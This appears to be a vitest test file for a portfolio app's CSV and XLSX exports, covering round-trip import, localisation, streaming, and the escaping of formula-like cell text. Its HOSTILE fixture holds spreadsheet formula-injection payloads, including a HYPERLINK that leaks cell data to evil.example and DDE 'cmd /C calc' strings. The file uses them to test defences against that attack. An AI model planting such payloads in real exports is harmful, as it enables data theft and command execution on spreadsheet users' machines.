import fs from 'node:fs'
import { PassThrough, Writable } from 'node:stream'
import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import { listQuery, PLAN_FILE } from '../../tests/setup/fixtures'
import { INTERCHANGE_HEADER } from '../../tests/setup/interchange'
import { createTestDb, useTestDb } from '../../tests/setup/test-db'
import { translator } from '../i18n/i18n'
import type { Language } from '../i18n/languages'
import { parseTaxonomyNames, setTaxonomyNames } from '../portfolio/taxonomy-names.server'
import { TAXONOMY_NAMES_FILE } from '../../db/seed'
import { readImportFile } from '../importer/files.server'
import { checkedRows, importCsv, importRows, planRows, type ImportRow } from '../importer/import.server'
import { COLUMNS, readInterchangeCsv, type FileRow } from '../importer/interchange'
import { emptyValue, INPUT_FIELDS, type InputValues } from '../portfolio/field-kinds'
import { COLUMN_IDS, DEFAULT_COLUMNS, type ColumnId } from '../portfolio/columns'
import { getItemByRef } from '../portfolio/items.server'
import type { ItemView } from '../portfolio/item-view'
import { eachItemBatch } from '../portfolio/list-batches.server'
import { listItems } from '../portfolio/list.server'
import type { ListQuery } from '../portfolio/list-query'
import { parse } from 'csv-parse/sync'
import { interchangeRecord } from './csv.server'
import { bytesOf, exportItemsCsv, exportItemsXlsx } from './items.server'
import { DATE_TIME_FORMATS, USD_MILLION_FORMAT, USD_MILLION_FORMATS, writeItemsXlsx } from './xlsx.server'
import type { Status } from '../portfolio/codes'
import { messageKey } from '../i18n/keys'

const plan = fs.readFileSync(PLAN_FILE, 'utf8')
const t = translator('en')

/** The interchange fields of an item: what a round trip must keep. */
const INTERCHANGE_FIELDS = INTERCHANGE_HEADER
const fieldsOf = (item: ItemView) => Object.fromEntries(INTERCHANGE_FIELDS.map((f) => [f, item[f]]))

/** A row as the importer takes it, for values no CSV row could give (a title beginning with an apostrophe and "="). Amounts in USD thousands. */
function row(ref: string, over: Partial<InputValues> = {}): ImportRow {
  const values = Object.fromEntries(
    INPUT_FIELDS.map((f) => [f.name, emptyValue(f)]),
  ) as unknown as InputValues
  return {
    row: 0,
    values: { ...values, ref, strategy: 'CITA 2030', title_en: `Item ${ref}`, proposers: ['KAZ'], ...over },
  }
}

/** Formula-like text in every kind of text field; "'=x" checks the escape of the escape. */
const HOSTILE = [
  row('EVIL-1', {
    title_en: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    title_zh: '+cmd|" /C calc"!A0',
    title_ru: '-2+3',
    description_en: '@SUM(1+1)*cmd|" /C calc"!A0',
    source: '\t=1+1',
    partners: ['=ADB', 'World Bank'],
    pillar: '=Pillar',
    area: '-Area',
    cost_usd_m: 12_345,
    secured_usd_m: 2_000,
    start_year: 2025,
    end_year: 2028,
  }),
  row('EVIL-2', {
    title_en: "'=already escaped looking",
    // formulas after the separators of other spreadsheet settings, and a bare line break
    title_zh: "x;=1+1;=cmd|' /C calc'!A0;y",
    title_ru: 'Первая строка\nвторая строка',
    description_en: "''-two apostrophes",
    source: "'plain quote",
  }),
]
/** The plan has no years, amounts or scores: one item with every field, for the round trip. */
const FULL = row('FULL-1', {
  pillar: 'Pillar 1: Trade expansion through improved market access',
  area: '1 Trade policy and measures',
  title_zh: '全',
  title_ru: 'Полный, "с кавычками"',
  modalities: ['investment_project', 'technical_assistance'],
  proposers: ['UZB', 'KAZ'],
  status: 'approved',
  start_year: 2024,
  end_year: 2030,
  cost_usd_m: 250_500,
  secured_usd_m: 100_001,
  partners: ['ADB', 'World Bank'],
  strategic_importance: 4,
  ease_of_implementation: 2,
  description_en: 'Line one\nline two, with a comma',
  source: 'Test',
})

async function xlsxOf(
  db: ItemsDb,
  query: ListQuery,
  columns: readonly ColumnId[] = DEFAULT_COLUMNS,
  language: Language = 'en',
): Promise<ExcelJS.Workbook> {
  const bytes = await bytesOf(
    exportItemsXlsx(db, query, {
      columns,
      language,
      exportedAt: '2026-11-25T12:30:00.000Z',
      exportedBy: 'Test Secretariat',
      viewUrl: 'http://localhost/items?x',
    }),
  )
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer)
  return workbook
}
type ItemsDb = Parameters<typeof listItems>[0]

const allRefs = async (db: ItemsDb, query: ListQuery) =>
  (await listItems(db, { ...query, pageSize: 200 })).items.map((i) => i.ref)

describe('exports of a portfolio view', () => {
  const d = useTestDb('all')

  it('loads the plan and a few items with formula-like text', async () => {
    const outcome = await importCsv(d.db, plan, null)
    expect(outcome.ok).toBe(true)
    await importRows(d.db, [...HOSTILE, FULL], null)
    expect(await allRefs(d.db, listQuery())).toHaveLength(83)
  })

  describe('reading a whole view a batch at a time', () => {
    it.each(['ref', '-cost_usd_m', 'status', '-area', 'gap_usd_m'])(
      'gives every item once, in the view order (sort=%s)',
      async (sort) => {
        const query = listQuery({ sort, proposers: ['KAZ', 'UZB', 'REG'] })
        const batches: string[][] = []
        for await (const batch of eachItemBatch(d.db, query, 7)) batches.push(batch.map((i) => i.ref))
        expect(batches.length).toBeGreaterThan(2)
        expect(batches.slice(0, -1).every((b) => b.length === 7)).toBe(true)
        expect(batches.flat()).toEqual(await allRefs(d.db, query))
      },
    )
  })

  describe('CSV', () => {
    it('is the interchange format: BOM, the interchange header, one record per matching item', async () => {
      const query = listQuery({ proposers: ['KAZ'], sort: '-cost_usd_m' })
      const text = (await bytesOf(exportItemsCsv(d.db, query))).toString('utf8')
      expect(
        text.startsWith(
          '\uFEFFref,strategy,pillar,area,title_en,title_zh,title_ru,modalities,proposers,status,start_year,end_year,cost_usd_m,secured_usd_m,partners,strategic_importance,ease_of_implementation,description_en,source,dac_code\r\n',
        ),
      ).toBe(true)
      const parsed = readInterchangeCsv(text)
      expect(parsed.errors).toEqual([])
      expect(parsed.rows.map((r) => r.ref)).toEqual(await allRefs(d.db, query))
    })

    it('neutralises text beginning with = + - @ or a tab, and leaves amounts as plain numbers', async () => {
      const text = (await bytesOf(exportItemsCsv(d.db, listQuery({ q: 'EVIL-1' })))).toString('utf8')
      const record = text.split('\r\n')[1]!
      expect(record).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")"`)
      expect(record).toContain(`"'+cmd|"" /C calc""!A0"`)
      expect(record).toContain(`,'-2+3,`)
      expect(record).toContain(`"'@SUM(1+1)*cmd|"" /C calc""!A0"`)
      expect(record).toContain(`'\t'=1+1`) // the tab could separate cells too
      expect(record).toContain(`,'=ADB;World Bank,`)
      expect(record).toContain(`,'=Pillar,'-Area,`)
      expect(record).toContain(',12.345,2,')
      // No field of the file starts like a formula.
      for (const line of text.split('\r\n').slice(1)) {
        expect(line).not.toMatch(/(^|,)"?[=+\-@\t]/)
      }
    })

    it('reads the same in a strict reader that ends a record at any line break outside quotes', async () => {
      // As Python's csv, pandas and Excel read: every record as wide as the header, quotes only
      // around whole fields, and CR, LF or CRLF outside quotes ends the record.
      const csv = await bytesOf(exportItemsCsv(d.db, listQuery()))
      const records = parse(csv, {
        bom: true,
        record_delimiter: ['\r\n', '\n', '\r'],
        relax_column_count: false,
        relax_quotes: false,
        skip_empty_lines: false,
        trim: false,
      }) as string[][]
      const items = (await listItems(d.db, listQuery({ pageSize: 200 }))).items
      expect(records).toEqual([[...COLUMNS], ...items.map(interchangeRecord)])
      const evil = records.find((r) => r[0] === 'EVIL-2')!
      expect(evil[COLUMNS.indexOf('title_ru')]).toBe('Первая строка\nвторая строка')
    })

    it('shows no formula to a spreadsheet that splits cells at ; or tab, even one ignoring quotes', async () => {
      const text = (await bytesOf(exportItemsCsv(d.db, listQuery()))).toString('utf8')
      const cells = text.split(/[,;\t\r\n]/).map((cell) => cell.replace(/^"+/, ''))
      expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([])
      expect(text).toContain(`,x;'=1+1;'=cmd|' /C calc'!A0;y,`)
    })

    it('imported into an empty database gives back the same items, field for field', async () => {
      const csv = await bytesOf(exportItemsCsv(d.db, listQuery()))
      const empty = await createTestDb()
      try {
        const outcome = await importCsv(empty.db, csv, null)
        if (!outcome.ok) throw new Error(JSON.stringify(outcome.errors))
        expect(outcome.summary.created).toHaveLength(83)
        const original = (await listItems(d.db, listQuery({ pageSize: 200 }))).items
        const copy = (await listItems(empty.db, listQuery({ pageSize: 200 }))).items
        // Text is trimmed on the way in, by the importer as by the form: the tab that a formula
        // check looks for, before "=1+1", was stored by a direct write no person can make.
        const trimmed = (f: Record<string, unknown>) =>
          f.ref === 'EVIL-1' ? { ...f, source: String(f.source).trim() } : f
        expect(copy.map(fieldsOf)).toEqual(original.map(fieldsOf).map(trimmed))
        // Including the texts that looked like formulas, exactly as they were stored.
        expect((await getItemByRef(empty.db, 'EVIL-1'))?.title_en).toBe(HOSTILE[0]!.values.title_en)
        expect(fieldsOf((await getItemByRef(empty.db, 'EVIL-2'))!)).toMatchObject({
          title_en: "'=already escaped looking",
          title_zh: "x;=1+1;=cmd|' /C calc'!A0;y",
          title_ru: 'Первая строка\nвторая строка',
          description_en: "''-two apostrophes",
          source: "'plain quote",
        })
      } finally {
        await empty.close()
      }
    })

    it('of the plan alone holds the same rows as the plan file', async () => {
      const csv = await bytesOf(exportItemsCsv(d.db, listQuery({ q: 'CITA' })))
      const exported = readInterchangeCsv(csv)
      const original = readInterchangeCsv(plan)
      expect([...exported.errors, ...original.errors]).toEqual([])
      // The plan file has fewer columns; a column left out is a value not given.
      const empty = Object.fromEntries(
        INPUT_FIELDS.filter((f) => COLUMNS.includes(f.name as never)).map((f) => [f.name, emptyValue(f)]),
      )
      const byRef = (rows: FileRow[]) =>
        rows.map((r) => ({ ...empty, ...r.given })).sort((a, b) => String(a.ref).localeCompare(String(b.ref)))
      expect(byRef(exported.rows)).toEqual(byRef(original.rows))
    })
  })

  describe('XLSX', () => {
    it("has the view's visible columns under a styled, frozen, filterable header and one row per item", async () => {
      const query = listQuery({ proposers: ['KAZ'], sort: '-cost_usd_m' })
      const workbook = await xlsxOf(d.db, query)
      expect(workbook.worksheets.map((s) => s.name)).toEqual(['Items', 'About this export'])
      const sheet = workbook.getWorksheet('Items')!
      const headers = (sheet.getRow(1).values as unknown[]).slice(1)
      expect(headers).toEqual([
        'Ref',
        'Title',
        'Area',
        'Type',
        'Proposers',
        'Status',
        'Start year',
        'End year',
        'Cost (USD m)',
        'Gap (USD m)',
        'Priority',
      ])
      expect(sheet.getCell('A1').font?.bold).toBe(true)
      expect(sheet.getCell('A1').fill).toMatchObject({ type: 'pattern', pattern: 'solid' })
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })

      const refs = await allRefs(d.db, query)
      expect(sheet.rowCount).toBe(refs.length + 1)
      expect(sheet.autoFilter).toBe(`A1:K${refs.length + 1}`)
      const sheetRefs = Array.from({ length: refs.length }, (_, k) => sheet.getCell(k + 2, 1).value)
      expect(sheetRefs).toEqual(refs)

      // The first row is the costliest KAZ item: its amounts are numbers in the USD million format.
      const first = (await listItems(d.db, { ...query, pageSize: 1 })).items[0]!
      const cost = sheet.getCell('I2')
      expect(cost.type).toBe(ExcelJS.ValueType.Number)
      expect(cost.value).toBe(first.cost_usd_m)
      expect(cost.numFmt).toBe(USD_MILLION_FORMAT)
      expect(sheet.getCell('J2').value).toBe(first.gap_usd_m)
      // Years are numbers too (on the first row that has one).
      const items = (await listItems(d.db, { ...query, pageSize: 200 })).items
      const dated = items.findIndex((i) => i.start_year !== null)
      expect(dated).toBeGreaterThanOrEqual(0)
      expect(sheet.getCell(dated + 2, 7).type).toBe(ExcelJS.ValueType.Number)
      expect(sheet.getCell(dated + 2, 7).value).toBe(items[dated]!.start_year)
      expect(sheet.getCell('B2').alignment?.wrapText).toBe(true)
      expect(sheet.getCell('F2').value).toBe(t(`status.${first.status as Status}`))
      // Items without a cost have an empty cell, not 0.
      const noCost = refs.findIndex((_, k) => sheet.getCell(k + 2, 9).value === null)
      if (noCost >= 0) expect(sheet.getCell(noCost + 2, 9).type).toBe(ExcelJS.ValueType.Null)
    })

    it('says on a second sheet which filter it holds and when it was made', async () => {
      const workbook = await xlsxOf(
        d.db,
        listQuery({
          proposers: ['KAZ'],
          status: ['proposed', 'endorsed'],
          q: 'trade',
          sort: '-cost_usd_m',
          archived: 'include',
        }),
      )
      const about = workbook.getWorksheet('About this export')!
      const lines = Object.fromEntries(
        about
          .getSheetValues()
          .slice(1)
          .map((r) => (r as unknown[]).slice(1, 3)),
      )
      expect(lines['Exported at']).toBe('2026-11-25 12:30 UTC')
      expect(lines['Exported by']).toBe('Test Secretariat')
      expect(lines['Proposers']).toBe('KAZ (Kazakhstan)')
      expect(lines['Status']).toBe('Proposed, Endorsed')
      expect(lines['Search (ref and titles)']).toBe('trade')
      expect(lines['Archived items']).toBe('Show with the others')
      expect(lines['Sorted by']).toBe('Cost (USD m), descending')
      expect(lines['Items']).toBe(workbook.getWorksheet('Items')!.rowCount - 1)
      // With archived items in the view, a column says which are.
      expect((workbook.getWorksheet('Items')!.getRow(1).values as unknown[]).at(-1)).toBe('Archived')
    })

    it("is written in the reader's language: headers, names of codes, countries and taxonomy, formats", async () => {
      await setTaxonomyNames(d.db, parseTaxonomyNames(fs.readFileSync(TAXONOMY_NAMES_FILE)))
      const query = listQuery({
        proposers: ['KAZ'],
        pillar: ['Pillar 2: Greater diversification'],
        sort: 'ref',
      })
      const columns: ColumnId[] = ['ref', 'pillar', 'area', 'proposers', 'status', 'cost_usd_m', 'updated_at']
      const first = (await listItems(d.db, { ...query, pageSize: 1 })).items[0]!
      for (const [language, expected] of [
        [
          'ru',
          {
            sheets: ['Позиции', 'Об этом экспорте'],
            pillar: 'Направление 2: дальнейшая диверсификация',
            country: 'Казахстан',
            exportedAt: '25.11.2026, 12:30 UTC',
          },
        ],
        [
          'zh',
          {
            sheets: ['条目', '关于此导出'],
            pillar: '支柱 2：进一步多元化',
            country: '哈萨克斯坦',
            exportedAt: '2026/11/25 12:30 UTC',
          },
        ],
      ] as const) {
        const workbook = await xlsxOf(d.db, query, columns, language)
        expect(workbook.worksheets.map((s) => s.name)).toEqual(expected.sheets)
        const sheet = workbook.worksheets[0]!
        const tl = translator(language)
        expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(
          [
            'field.ref',
            'field.pillar',
            'field.area',
            'field.proposers',
            'field.status',
            'field.cost_usd_m',
            'export.header.updated_at',
          ].map((k) => tl(messageKey(k))),
        )
        expect(sheet.getCell('B2').value).toBe(expected.pillar)
        expect(sheet.getCell('D2').value).toContain(expected.country)
        expect(sheet.getCell('E2').value).toBe(tl(`status.${first.status as Status}`))
        expect(sheet.getCell('F2').numFmt).toBe(USD_MILLION_FORMATS[language])
        expect(sheet.getCell('G2').numFmt).toBe(DATE_TIME_FORMATS[language])
        const about = Object.fromEntries(
          workbook.worksheets[1]!.getSheetValues()
            .slice(1)
            .map((r) => (r as unknown[]).slice(1, 3)),
        )
        expect(about[tl('export.about.exportedAt')]).toBe(expected.exportedAt)
        expect(about[tl('field.pillar')]).toBe(expected.pillar)
      }
      // English keeps the stored names
      const english = (await xlsxOf(d.db, query, columns)).worksheets[0]!
      expect(english.getCell('B2').value).toBe('Pillar 2: Greater diversification')
      expect(english.getCell('D2').value).toContain('Kazakhstan')
      // the interchange CSV stays language-neutral: English names and codes, whatever is stored
      const csv = (await bytesOf(exportItemsCsv(d.db, query))).toString('utf8')
      expect(csv).toContain('Pillar 2: Greater diversification')
      expect(csv).not.toMatch(/支柱|Направление/)
    })

    it('of the whole portfolio says there is no filter', async () => {
      const about = (await xlsxOf(d.db, listQuery())).getWorksheet('About this export')!
      const lines = Object.fromEntries(
        about
          .getSheetValues()
          .slice(1)
          .map((r) => (r as unknown[]).slice(1, 3)),
      )
      expect(lines['Filters']).toBe('None: every item')
      expect(lines['Items']).toBe(83)
    })

    it('keeps formula-like text as neutralised text, and has no formula anywhere', async () => {
      const workbook = await xlsxOf(d.db, listQuery({ q: 'EVIL' }), [
        'ref',
        'title',
        'pillar',
        'area',
        'cost_usd_m',
      ])
      const sheet = workbook.getWorksheet('Items')!
      expect(sheet.getCell('B2').value).toBe(`'${HOSTILE[0]!.values.title_en}`)
      expect(sheet.getCell('B2').type).toBe(ExcelJS.ValueType.String)
      expect(sheet.getCell('C2').value).toBe("'=Pillar")
      expect(sheet.getCell('D2').value).toBe("'-Area")
      expect(sheet.getCell('E2').value).toBe(12.345)
      expect(sheet.getCell('B3').value).toBe("''=already escaped looking")
      for (const s of workbook.worksheets)
        s.eachRow((r) => r.eachCell((c) => expect(c.type).not.toBe(ExcelJS.ValueType.Formula)))
    })

    describe('imports again (its headers are labels, its amounts numbers in USD million)', () => {
      async function exportedBytes(query: ListQuery, columns: readonly ColumnId[]) {
        const workbook = await xlsxOf(d.db, query, columns)
        return { workbook, bytes: new Uint8Array(await workbook.xlsx.writeBuffer()) }
      }
      async function plan(bytes: Uint8Array) {
        const checked = await checkedRows(d.db, await readImportFile('export.xlsx', bytes))
        if (!checked.ok) throw new Error(JSON.stringify(checked.errors.slice(0, 5)))
        return { checked, summary: await planRows(d.db, checked.rows, null) }
      }

      it('every column, archived items included: nothing to change, the worked-out columns named', async () => {
        const query = listQuery({ archived: 'include' })
        const { bytes } = await exportedBytes(query, COLUMN_IDS)
        const { checked, summary } = await plan(bytes)
        expect(checked.fromExport).toBe(true)
        expect(checked.ignored).toEqual([
          'Gap (USD m)',
          'Priority',
          'Partner interest',
          'Last updated (UTC)',
          'Published',
          'Archived',
        ])
        expect(summary.unchanged).toHaveLength(83)
        expect(summary.updated).toEqual([])
      })

      it.each(['ru', 'zh'] as const)(
        'in %s, taxonomy and countries by their names: nothing to change, nothing new',
        async (language) => {
          await setTaxonomyNames(d.db, parseTaxonomyNames(fs.readFileSync(TAXONOMY_NAMES_FILE)))
          const query = listQuery({ proposers: ['KAZ'] })
          const workbook = await xlsxOf(d.db, query, COLUMN_IDS, language)
          expect(JSON.stringify(workbook.worksheets[0]!.getSheetValues())).toMatch(/支柱|Направление/)
          const { checked, summary } = await plan(new Uint8Array(await workbook.xlsx.writeBuffer()))
          expect(checked.fromExport).toBe(true)
          expect(summary.unchanged).toHaveLength((await allRefs(d.db, query)).length)
          expect(summary.updated).toEqual([])
          expect(summary.newTaxonomy).toEqual([])
        },
      )

      it('the default columns, edited in a spreadsheet: the edits are the changes', async () => {
        const { workbook } = await exportedBytes(listQuery({ q: 'FULL-1' }), DEFAULT_COLUMNS)
        const sheet = workbook.getWorksheet('Items')!
        const header = (sheet.getRow(1).values as unknown[]).slice(1)
        const cell = (name: string) => sheet.getRow(2).getCell(header.indexOf(name) + 1)
        cell('Cost (USD m)').value = 300.25
        cell('Status').value = 'Under implementation'
        cell('Type').value = 'Technical assistance, Policy dialogue'
        cell('Proposers').value = 'KAZ, TAJ'
        const { summary } = await plan(new Uint8Array(await workbook.xlsx.writeBuffer()))
        expect(summary.updated).toEqual(['FULL-1'])
        expect(summary.entries[0]!.changes).toEqual([
          {
            field: 'modalities',
            old: ['investment_project', 'technical_assistance'],
            new: ['technical_assistance', 'policy_dialogue'],
          },
          { field: 'proposers', old: ['UZB', 'KAZ'], new: ['KAZ', 'TAJ'] },
          { field: 'status', old: 'approved', new: 'under_implementation' },
          { field: 'cost_usd_m', old: 250.5, new: 300.25 },
        ])
      })

      it("a label that is no code is refused by the field's own rule, naming the column as the file does", async () => {
        const { workbook } = await exportedBytes(listQuery({ q: 'FULL-1' }), ['ref', 'status'])
        workbook.getWorksheet('Items')!.getCell('B2').value = 'Nearly done'
        const read = await readImportFile('export.xlsx', new Uint8Array(await workbook.xlsx.writeBuffer()))
        expect(read.errors).toEqual([
          expect.objectContaining({ row: 2, column: 'Status', key: 'validation.status' }),
        ])
      })
    })

    it('writes negatives (an oversubscribed gap) as negative numbers, and the partner interest as the table does', async () => {
      const out = new PassThrough()
      const bytes = bytesOf(
        new ReadableStream({
          start: (c) => {
            out.on('data', (b: Buffer) => c.enqueue(new Uint8Array(b)))
            out.on('end', () => c.close())
          },
        }),
      )
      const item = (await getItemByRef(d.db, 'EVIL-1'))!
      async function* one() {
        yield [{ ...item, gap_usd_m: -1.5, interest: [{ organisation: 'ADB', stage: 'committed' as const }] }]
      }
      await writeItemsXlsx(out, one(), {
        query: listQuery(),
        columns: ['ref', 'gap_usd_m', 'interest'],
        language: 'en',
        exportedAt: '2026-11-25T12:30:00.000Z',
        exportedBy: 'x',
        viewUrl: 'x',
      })
      const workbook = new ExcelJS.Workbook()
      await workbook.xlsx.load((await bytes) as unknown as ExcelJS.Buffer)
      const gap = workbook.getWorksheet('Items')!.getCell('B2')
      expect(gap.value).toBe(-1.5)
      expect(gap.type).toBe(ExcelJS.ValueType.Number)
      // the partner-interest column, as the table shows it
      expect(workbook.getWorksheet('Items')!.getCell('C1').value).toBe('Partner interest')
      expect(workbook.getWorksheet('Items')!.getCell('C2').value).toBe('ADB · Committed')
    })

    it('sends the sheet on as it is written, not all at the end (a batch at a time, compressed)', async () => {
      let received = 0
      const out = new Writable({ write: (chunk: Buffer, _e, done) => ((received += chunk.length), done()) })
      const item = (await getItemByRef(d.db, 'FULL-1'))!
      const sentBefore: number[] = []
      async function* batches() {
        for (let b = 0; b < 6; b++) {
          sentBefore.push(received)
          yield Array.from({ length: 1000 }, (_, n) => ({ ...item, ref: `R-${b}-${n}`, interest: [] }))
        }
      }
      const count = await writeItemsXlsx(out, batches(), {
        query: listQuery(),
        columns: DEFAULT_COLUMNS,
        language: 'en',
        exportedAt: '2026-11-25T12:30:00.000Z',
        exportedBy: 'x',
        viewUrl: 'x',
      })
      expect(count).toBe(6000)
      // exceljs's zip took nothing of the sheet until the file was finished before the writer
      // waited for it: by the last batch, the earlier ones have gone out.
      expect(sentBefore[5]).toBeGreaterThan(0)
      expect(sentBefore[5]! / received).toBeGreaterThan(0.5)
    })
  })
})
